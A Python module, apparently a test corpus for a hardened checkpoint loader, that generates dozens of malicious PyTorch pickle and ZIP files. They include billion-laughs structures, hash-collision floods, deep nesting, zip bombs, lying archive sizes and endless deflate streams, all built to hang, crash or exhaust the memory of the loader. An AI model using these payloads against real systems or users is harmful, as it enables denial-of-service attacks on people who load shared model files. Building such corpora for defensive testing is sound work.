"""Small files made to kill, hang or fill the memory of whoever loads them."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from typing import Any

STORAGE = (
    b"(X\x07\x00\x00\x00storagectorch\nFloatStorage\nX\x01\x00\x00\x000X\x03\x00\x00\x00cpuK\x04tQ"
)
REBUILD = b"ctorch._utils\n_rebuild_tensor_v2\n"
ORDERED = b"ccollections\nOrderedDict\n"
LEGACY = b"\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19.\x80\x02M\xe9\x03."
LEGACY += b"\x80\x02}X\x0d\x00\x00\x00little_endian\x88s."
BOMBS: dict[str, Callable[[], bytes]] = {}


def archive(
    data: bytes, storages: dict[str, bytes] | None = None, deflate: bool = False, **extra: Any
) -> bytes:
    """Return a checkpoint around a pickle."""
    buffer = io.BytesIO()
    method = zipfile.ZIP_DEFLATED if deflate else zipfile.ZIP_STORED
    with zipfile.ZipFile(buffer, "w", method) as z:
        records = {"data.pkl": data, "byteorder": b"little", "version": b"3\n", **extra}
        records |= {f"data/{k}": v for k, v in (storages or {"0": bytes(16)}).items()}
        for name, content in records.items():
            z.writestr(f"x/{name}", content)
    return buffer.getvalue()


def pickle(body: bytes, deflate: bool = False) -> bytes:
    return archive(b"\x80\x02" + body + b".", deflate=deflate)


def legacy(body: bytes, keys: bytes = b"]", tail: bytes = b"") -> bytes:
    return LEGACY + b"\x80\x02" + body + b"." + b"\x80\x02" + keys + b"." + tail


def text(s: str) -> bytes:
    raw = s.encode("utf-8", "surrogatepass")
    return b"X" + struct.pack("<I", len(raw)) + raw


def number(n: int) -> bytes:
    raw = n.to_bytes(n.bit_length() // 8 + 1, "little", signed=True)
    return b"\x8a" + bytes([len(raw)]) + raw


def put(i: int) -> bytes:
    return b"r" + struct.pack("<I", i)


def get(i: int) -> bytes:
    return b"j" + struct.pack("<I", i)


def tensor(
    storage: bytes = STORAGE, offset: bytes = b"K\x00", size: bytes = b"K\x04\x85",
    stride: bytes = b"K\x01\x85",
) -> bytes:  # fmt: skip
    return REBUILD + b"(" + storage + offset + size + stride + b"\x89}tR"


def laughs(levels: int = 28) -> bytes:
    """A tuple of few bytes that has 2**levels leaves."""
    out = b"X\x01\x00\x00\x00a" + put(1000)
    for i in range(levels):
        out += get(1000 + i) + b"\x86" + put(1001 + i)
    return out


def call(function: bytes, *args: bytes) -> bytes:
    return b"c" + function + b"\n(" + b"".join(args) + b"tR"


def bomb(f: Callable[[], bytes]) -> Callable[[], bytes]:
    BOMBS[f.__name__] = f
    return f


def family(name: str, members: dict[str, bytes | Callable[[], bytes]], deflate: bool) -> None:
    """Add one pickle for each place where something harmful may stand."""
    for place, body in members.items():

        def make(body: Any = body) -> bytes:
            return pickle(body() if callable(body) else body, deflate)

        BOMBS[f"{name}_{place}"] = make


DEEP = b")" + b"\x85" * 150_000
DEVICE, SIZE = b"ctorch\ndevice\n", b"ctorch\nSize\n"

family(
    "deep",
    {
        "key": b"}" + DEEP + b"Ns",
        "value": DEEP,
        "member": call(b"__builtin__\nset", b"](" + DEEP + b"e"),
        "size": tensor(size=DEEP),
        "id": DEEP + b"Q",
        "list": b"]" * 150_000 + b"a" * 149_999,
        "dict": b"}" + b"K\x00}" * 150_000 + b"s" * 150_000,
        "calls": ORDERED * 20_000 + b")" + b"R\x85" * 20_000,
        "state": ORDERED + b")R}" + text("a") + DEEP + b"sb",
    },
    deflate=True,
)


def pid(key: bytes = text("0"), place: bytes = text("cpu"), n: bytes = b"K\x04") -> bytes:
    return b"(" + text("storage") + b"ctorch\nFloatStorage\n" + key + place + n + b"tQ"


family(
    "laughs",
    {
        "id": laughs() + b"Q",
        "location": tensor(pid(place=laughs())),
        "storage_key": tensor(pid(key=laughs())),
        "numel": tensor(pid(n=laughs())),
        "size": tensor(size=laughs()),
        "stride": tensor(stride=laughs()),
        "offset": tensor(offset=laughs()),
        "encoding": call(b"_codecs\nencode", text("a"), laughs()),
        "function": laughs() + b")R",
        "arguments": ORDERED + laughs() + b"R",
        "key": b"}" + laughs() + b"Ns",
        "member": call(b"__builtin__\nset", laughs()),
        "pairs": call(b"collections\nOrderedDict", laughs()),
        "counter": call(b"collections\nCounter", laughs()),
        "device": call(b"torch\ndevice", laughs()),
        "torch_size": call(b"torch\nSize", laughs()),
        "complex": call(b"__builtin__\ncomplex", laughs(), laughs()),
        "bytearray": call(b"__builtin__\nbytearray", laughs()),
        "state": ORDERED + b")R" + laughs() + b"b",
        "state_of_state": ORDERED + b")R}" + laughs() + b"Nsb",
        "tensor_state": b"ctorch._tensor\n_rebuild_from_type_v2\n(" + REBUILD + b"ctorch\nTensor\n("
        + STORAGE + b"K\x00K\x04\x85K\x01\x85\x89}t" + laughs() + b"tR",
        "name": b"(" + laughs() + b"dict" + b"Q",
        "result": laughs(60),
    },
    deflate=False,
)  # fmt: skip


@bomb
def laughs_legacy_keys() -> bytes:
    return legacy(tensor(pid()[:-2] + b"NtQ"), b"](" + laughs() + b"e", bytes(100))


@bomb
def laughs_legacy_version() -> bytes:
    return LEGACY[:16] + b"\x80\x02" + laughs() + b"." + LEGACY[21:]


@bomb
def legacy_sizes_beyond_the_file() -> bytes:
    return legacy(tensor(pid(n=number(1 << 40))[:-2] + b"NtQ"), b"](" + text("0") + b"e")


@bomb
def sizes_of_thousands_of_bits() -> bytes:
    return pickle(tensor(size=b"(" + number(1 << 2000) * 1000 + b"t"))


@bomb
def sizes_by_the_thousand() -> bytes:
    return pickle(
        tensor(size=b"(" + b"K\xff" * 60_000 + b"t", stride=b"(" + b"K\xff" * 60_000 + b"t")
    )


@bomb
def sizes_recalled_for_each_tensor() -> bytes:
    args = b"(" + STORAGE + b"K\x00(" + b"K\x01" * 60_000 + b"tq\x01h\x01\x89}tq\x02"
    return pickle(REBUILD + b"q\x00" + args + b"h\x00h\x02R" * 20_000)


@bomb
def sizes_whose_product_overflows() -> bytes:
    big = number(1 << 62)
    return pickle(tensor(size=big * 3 + b"\x87", stride=b"K\x00K\x00K\x00\x87"))


@bomb
def storage_of_2_to_the_70() -> bytes:
    return pickle(tensor(pid(n=number(1 << 70))))


@bomb
def storage_of_2_to_the_61() -> bytes:
    return pickle(tensor(pid(n=number(1 << 61))))


@bomb
def globals_by_the_thousand() -> bytes:
    return pickle(ORDERED * 20_000 + (ORDERED + b")R") * 20_000)


@bomb
def globals_all_different() -> bytes:
    return pickle(b"".join(b"cnobody\nname%d\n" % i for i in range(20_000)))


def copies(function: bytes, content: bytes) -> bytes:
    return pickle(b"c" + function + b"\nq\x00" + content + b"\x85q\x01" + b"h\x00h\x01R" * 4000)


@bomb
def text_encoded_again_and_again() -> bytes:
    body = b"c_codecs\nencode\nq\x00(" + text("a" * 15_000_000) + text("latin1") + b"tq\x01"
    return pickle(body + b"h\x00h\x01R" * 2000, deflate=True)


@bomb
def bytes_copied_again_and_again() -> bytes:
    return copies(b"__builtin__\nbytearray", call(b"_codecs\nencode", text("a" * 500_000)))


@bomb
def set_copied_again_and_again() -> bytes:
    return copies(b"__builtin__\nset", b"](" + b"".join(map(number, range(20_000))) + b"e")


@bomb
def counter_copied_again_and_again() -> bytes:
    keys = b"".join(number(i) + b"N" for i in range(20_000))
    return copies(b"collections\nCounter", b"}(" + keys + b"u")


@bomb
def dict_copied_again_and_again() -> bytes:
    keys = b"".join(number(i) + b"N" for i in range(20_000))
    return copies(b"collections\nOrderedDict", b"}(" + keys + b"u")


@bomb
def pairs_copied_again_and_again() -> bytes:
    pairs = b"".join(number(i) + b"N\x86" for i in range(20_000))
    return copies(b"collections\nOrderedDict", b"](" + pairs + b"e")


MODULUS = 2**61 - 1  # of Python's hash of a number


def equal_hashes(n: int) -> Iterator[bytes]:
    for i in range(n):
        yield number(i * MODULUS)


def equal_tuples(
    n: int = 13, leaf: tuple[bytes, bytes] = (number(-1), number(-2))
) -> Iterator[bytes]:
    for i in range(1 << n):
        yield b"(" + b"".join(leaf[i >> k & 1] for k in range(n)) + b"t"


@bomb
def numbers_of_one_hash_as_keys() -> bytes:
    return pickle(b"}(" + b"".join(k + b"N" for k in equal_hashes(60_000)) + b"u")


@bomb
def numbers_of_one_hash_in_a_set() -> bytes:
    return pickle(call(b"__builtin__\nset", b"](" + b"".join(equal_hashes(60_000)) + b"e"))


@bomb
def numbers_of_one_hash_in_a_counter() -> bytes:
    keys = b"".join(k + b"N" for k in equal_hashes(30_000))
    return pickle(call(b"collections\nCounter", b"}(" + keys + b"u"))


@bomb
def numbers_of_one_hash_as_pairs() -> bytes:
    pairs = b"".join(k + b"N\x86" for k in equal_hashes(30_000))
    return pickle(call(b"collections\nOrderedDict", b"](" + pairs + b"e"))


@bomb
def numbers_of_one_hash_in_an_ordered_dict() -> bytes:
    return pickle(ORDERED + b")R(" + b"".join(k + b"N" for k in equal_hashes(60_000)) + b"u")


@bomb
def numbers_of_one_hash_one_by_one() -> bytes:
    return pickle(b"}" + b"".join(k + b"Ns" for k in equal_hashes(60_000)))


@bomb
def numbers_of_one_hash_in_many_dicts() -> bytes:
    keys = b"".join(k + b"N" for k in equal_hashes(127))
    return pickle((b"}(" + keys + b"u") * 300)


@bomb
def tuples_of_one_hash_as_keys() -> bytes:
    return pickle(b"}(" + b"".join(k + b"N" for k in equal_tuples()) + b"u")


@bomb
def tuples_of_one_hash_in_a_set() -> bytes:
    floats = b"G" + struct.pack(">d", -1.0), b"G" + struct.pack(">d", -2.0)
    members = b"".join(equal_tuples(13, floats))
    return pickle(call(b"__builtin__\nset", b"](" + members + b"e"))


@bomb
def long_equal_texts_as_keys() -> bytes:
    twins = text("a" * 1_000_000) + b"q\x00" + text("a" * 1_000_000) + b"q\x01"
    return pickle(twins + b"}(" + b"h\x00Nh\x01N" * 100_000 + b"u")


@bomb
def long_equal_texts_in_tuples_as_keys() -> bytes:
    twins = (text("a" * 1_000_000) * 2 + b"\x86q\x00") + (text("a" * 1_000_000) * 2 + b"\x86q\x01")
    return pickle(twins + b"}(" + b"h\x00Nh\x01N" * 100_000 + b"u")


@bomb
def long_equal_texts_as_storages() -> bytes:
    ids = b"".join(pid(key=text("a" * 500_000))[:-1] + b"q%c" % i for i in (0, 1))
    return pickle(ids + b"h\x00Qh\x01Q" * 100_000)


@bomb
def type_called_for_memory() -> bytes:
    body = b"ctorch._tensor\n_rebuild_from_type_v2\n(ctorch\nTensor\nctorch\nTensor\n"
    return pickle(body + number(1 << 33) + b"\x85}tR")


@bomb
def maker_that_is_no_maker() -> bytes:
    return pickle(
        b"ctorch._tensor\n_rebuild_from_type_v2\n(cbuiltins\nbytearray\nctorch\nTensor\n"
        + text("a") + b"\x85}tR"
    )  # fmt: skip


@bomb
def maker_of_makers() -> bytes:
    again = b"ctorch._tensor\n_rebuild_from_type_v2\n"
    return pickle(again + b"(" + (again + b"ctorch\nTensor\n(") * 500 + b"t}t" * 500 + b"R")


@bomb
def bytearray_of_a_size() -> bytes:
    return pickle(call(b"__builtin__\nbytearray", number(1 << 33)))


@bomb
def storage_class_called() -> bytes:
    return pickle(b"ctorch\nFloatStorage\n" + number(1 << 33) + b"\x85\x81")


@bomb
def tensor_class_called() -> bytes:
    return pickle(b"ctorch\nFloatTensor\n" + number(1 << 33) + b"\x85\x81")


@bomb
def memo_at_a_high_place() -> bytes:
    return pickle(b"Nr\x00\x00\x00\x0c")


@bomb
def memo_at_many_places() -> bytes:
    return pickle(b"N" + b"".join(put((i * 7919 + 5) % (1 << 32)) for i in range(100_000)))


@bomb
def flood_of_marks() -> bytes:
    return pickle(b"(" * 3_000_000)


@bomb
def flood_of_nothing() -> bytes:
    return pickle(b"(" + b"N" * 3_000_000 + b"t")


@bomb
def flood_of_lists() -> bytes:
    return pickle(b"](" + b"]" * 3_000_000 + b"e")


@bomb
def flood_of_dicts() -> bytes:
    return pickle(b"](" + b"}" * 3_000_000 + b"e")


@bomb
def flood_of_sets() -> bytes:
    return pickle(b"](" + b"\x8f" * 3_000_000 + b"e")


@bomb
def flood_of_small_dicts() -> bytes:
    return pickle(b"](" + b"}NNs" * 750_000 + b"e")


@bomb
def flood_of_long_numbers() -> bytes:
    return pickle(b"](" + (b"\x8a\xff" + bytes(254) + b"\x01") * 12_000 + b"e")


@bomb
def flood_of_appends() -> bytes:
    return pickle(b"]" + b"Na" * 1_000_000)


@bomb
def flood_of_appends_of_itself() -> bytes:
    return pickle(b"]q\x00" + b"h\x00a" * 500_000)


@bomb
def flood_of_packed_recalls() -> bytes:
    return pickle(b"Nq\x00" + b"h\x00" * 7_000_000, deflate=True)


@bomb
def flood_of_empty_calls() -> bytes:
    return pickle(ORDERED + b"q\x00" + b"h\x00)R" * 300_000)


@bomb
def flood_of_storages() -> bytes:
    return pickle(pid()[:-1] + b"q\x00" + b"h\x00Q" * 300_000)


@bomb
def flood_of_tensors() -> bytes:
    args = REBUILD + b"q\x00(" + STORAGE + b"K\x00K\x04\x85K\x01\x85\x89}tq\x01"
    return pickle(args + b"h\x00h\x01R" * 300_000)


@bomb
def flood_of_packed_tensors() -> bytes:
    args = REBUILD + b"q\x00(" + STORAGE + b"K\x00K\x04\x85K\x01\x85\x89}tq\x01"
    return pickle(args + b"h\x00h\x01R" * 3_000_000, deflate=True)


@bomb
def text_of_wide_characters() -> bytes:
    return pickle(b"](" + text("a" * 2_000_000 + "\U0001f600") * 2 + b"e")


@bomb
def dict_that_is_its_own_key() -> bytes:
    return pickle(b"}q\x00h\x00h\x00s")


@bomb
def attribute_that_hides_a_method() -> bytes:
    return pickle(ORDERED + b")R}" + text("items") + b"Nsb")


@bomb
def attribute_that_changes_the_class() -> bytes:
    parameter = b"ctorch._utils\n_rebuild_parameter_with_state\n(" + tensor() + b"\x88}}"
    return pickle(parameter + text("__class__") + b"ctorch\nTensor\nstR")


def lying(data: bytes, size: int, name: bytes = b"x/data/0") -> bytes:
    """Let the directory claim another size for a record."""
    at = data.rindex(b"PK\x01\x02", 0, data.rindex(name))
    return data[: at + 24] + struct.pack("<I", size) + data[at + 28 :]


@bomb
def storage_packed_a_thousandfold() -> bytes:
    n = 1 << 26
    body = tensor(pid(n=number(n))).replace(b"FloatStorage", b"ByteStorage")
    return archive(b"\x80\x02" + body + b".", {"0": bytes(n)}, deflate=True)


@bomb
def storage_that_claims_gigabytes() -> bytes:
    body = tensor(pid(n=number(3 << 30))).replace(b"FloatStorage", b"ByteStorage")
    return lying(archive(b"\x80\x02" + body + b".", {"0": bytes(1 << 20)}, deflate=True), 3 << 30)


@bomb
def pickle_packed_a_thousandfold() -> bytes:
    return pickle(b"N" * (1 << 26), deflate=True)


@bomb
def pickle_that_claims_gigabytes() -> bytes:
    return lying(pickle(b"N" * (1 << 20), deflate=True), (1 << 32) - 2, b"x/data.pkl")


@bomb
def deflate_of_empty_blocks() -> bytes:
    """A stream that goes on for ever without a byte of output."""
    data = bytearray(pickle(b"N" * 100_000, deflate=True))
    at = data.index(b"x/data.pkl") + 10
    packed = struct.unpack_from("<I", data, 18)[0]
    data[at : at + packed] = b"\x00\x00\x00\xff\xff" * (packed // 5) + bytes(packed % 5)
    return bytes(data)


@bomb
def version_of_a_million_digits() -> bytes:
    return archive(b"\x80\x02N.", version=b"9" * 1_000_000)


@bomb
def directory_of_a_million_records() -> bytes:
    entry = struct.pack(
        "<4s6H3I5H2I", b"PK\x01\x02", 0, 0, 0, 0, 0, 0, 0, 0, 0, 3, 0, 0, 0, 0, 0, 0
    )
    n = 1 << 16
    directory = (entry + b"x/a") * n
    head = b"PK\x03\x04" + bytes(26)
    end = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, n - 1, n - 1, len(directory), 30, 0)
    return head + directory + end


@bomb
def names_of_64_kilobytes() -> bytes:
    return archive(b"\x80\x02N.", **{f"{'a' * 65_000}{i}": b"" for i in range(20)})


@bomb
def name_that_is_no_text() -> bytes:
    data = archive(b"\x80\x02N.", **{"é" * 30_000: b""})
    return data.replace("é".encode(), b"\xff\xfe")


@bomb
def zip64_sizes_that_wrap() -> bytes:
    data = archive(b"\x80\x02" + tensor() + b".")
    at = data.rindex(b"PK\x05\x06")
    end64 = struct.pack(
        "<4sQ2H2I4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, 1 << 63, 1 << 63, 1 << 63, (1 << 64) - 1
    )
    locator = struct.pack("<4sIQI", b"PK\x06\x07", 0, at, 1)
    end = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 65535, 65535, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    return data[:at] + end64 + locator + end


@bomb
def overlapping_records() -> bytes:
    """Many records that share the same packed bytes."""
    body = zlib.compress(bytes(10_000_000), 9)[2:-4]
    crc = zlib.crc32(bytes(10_000_000))
    head = struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 8, 0, 0, crc, len(body), 10**7, 8, 0)
    sizes = crc, len(body), 10**7
    entry = struct.pack(
        "<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, *sizes, 8, 0, 0, 0, 0, 0, 0
    )
    entries = b"".join(entry + b"x/%06d" % i for i in range(5000))
    start = len(head) + 8 + len(body)
    end = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 5000, 5000, len(entries), start, 0)
    return head + b"x/000000" + body + entries + end
